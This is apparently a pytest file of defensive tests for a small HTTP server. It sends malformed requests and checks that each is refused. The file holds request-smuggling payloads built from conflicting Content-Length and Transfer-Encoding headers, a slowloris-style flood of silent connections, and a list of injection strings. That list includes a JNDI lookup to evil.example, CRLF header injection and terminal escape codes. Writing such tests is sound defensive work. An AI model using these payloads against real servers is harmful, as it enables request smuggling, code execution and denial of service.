"""What is malformed, sent to ``budwood serve`` itself: the guard of the small server stands here too."""

import json
import re
import socket
from urllib.parse import quote

import pytest

from tests.attacks import wire
from tests.attacks.siege import Siege
from tests.attacks.test_malformed import ATTACKS

# These go by what the small server serves: ranges of an address, and bodies that are read.
OTHERWISE = {name for name, (sent, _) in ATTACKS.items() if b"/large" in sent}
READ = {"2 MB in chunks", "framing without content"}


@pytest.mark.parametrize("name", sorted(ATTACKS.keys() - OTHERWISE - READ))
def test_what_is_malformed_is_refused_before_anything_is_looked_up(name: str, unmoved: Siege) -> None:
    sent, (status, code) = ATTACKS[name]
    answers = unmoved.send(sent)
    assert [(answer.status, answer.code) for answer in answers] == [(status, code)]


@pytest.mark.parametrize("name", sorted(READ))
def test_a_body_that_goes_wrong_after_the_answer_is_not_answered_again(name: str, unmoved: Siege) -> None:
    sent, _ = ATTACKS[name]
    # There is nothing at that address, which is said at once.
    assert [answer.status for answer in unmoved.send(sent)] == [404]


SMUGGLED = b"GET /v1/whoami HTTP/1.1\r\nHost: localhost\r\n\r\n"
CARRIERS = [
    b"POST /v1/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    b"POST /v1/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}" + SMUGGLED,
    b"POST /v1/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 45\r\n\r\n" + SMUGGLED,
    b"GET /healthz HTTP/1.1\nHost: localhost\n\n" + SMUGGLED,
]


@pytest.mark.parametrize("number", range(len(CARRIERS)))
def test_no_second_request_is_read_out_of_a_doubtful_one(number: int, unmoved: Siege) -> None:
    answers = unmoved.send(CARRIERS[number])
    assert len(answers) == 1
    assert 400 <= answers[0].status < 500


def test_a_large_body_that_was_announced_is_refused_before_it_is_sent(unmoved: Siege) -> None:
    head = b"POST /v1/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    (told,) = unmoved.send(head + b"Expect: 100-continue\r\nContent-Length: 99999999999\r\n\r\n")
    assert (told.status, told.code) == (413, "body_too_large")


def test_many_who_say_nothing_keep_nobody_out(unmoved: Siege) -> None:
    silent = [wire.connect(unmoved.port) for _ in range(300)]
    for number, line in enumerate(silent):
        line.sendall(b"GET /healthz HTTP/1.1\r\nHo"[: number % 26])
    try:
        unmoved.assert_well()
        assert unmoved.ask("GET", "/v1/whoami", by="reader", within_s=2).status == 200
    finally:
        for line in silent:
            line.close()


def test_who_leaves_in_the_middle_of_an_answer_harms_nobody(unmoved: Siege) -> None:
    for _ in range(100):
        line = wire.connect(unmoved.port)
        line.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 3)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        line.close()


# The log

FORGED = [
    '\r\n{"level":"info","forged":true}',
    "\x1b[2J\x1b[31mred",
    "\u202egnp.exe",
    "${jndi:ldap://evil.example/a}",
    "%0d%0aSet-Cookie: a=b",
    "\u2028forged",
    "{{7*7}}",
]


@pytest.mark.parametrize("text", FORGED, ids=ascii)
def test_nobody_forges_a_line_of_the_log_or_a_header(text: str, besieged: Siege) -> None:
    before = len(besieged.server.log)
    besieged.ask("GET", f"/v1/models/ours/{quote(text, safe='')}/log", by="reader")
    besieged.ask("POST", "/v1/groups", by="admin", json={"name": text})
    besieged.ask("PATCH", "/v1/models/ours/encoder/versions/v1/tags", by="writer", json={"put": {"k": text}})
    raw = text.replace("\r", "").replace("\n", "").encode()
    for field in (b"User-Agent: ", b"X-Request-Id: ", b"Traceparent: ", b"X-Forwarded-For: ", b"Idempotency-Key: "):
        for told in besieged.send(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + field + raw + b"\r\n\r\n"):
            assert "set-cookie" not in told.headers
            assert re.fullmatch(r"[0-9A-Za-z-]{8,64}", told.headers["x-request-id"])
    for line in besieged.server.log[before:]:
        assert json.loads(line)["level"] in ("info", "warning")
        assert line.rstrip("\n").isprintable()
        assert line.isascii()
        assert "forged" not in json.loads(line)
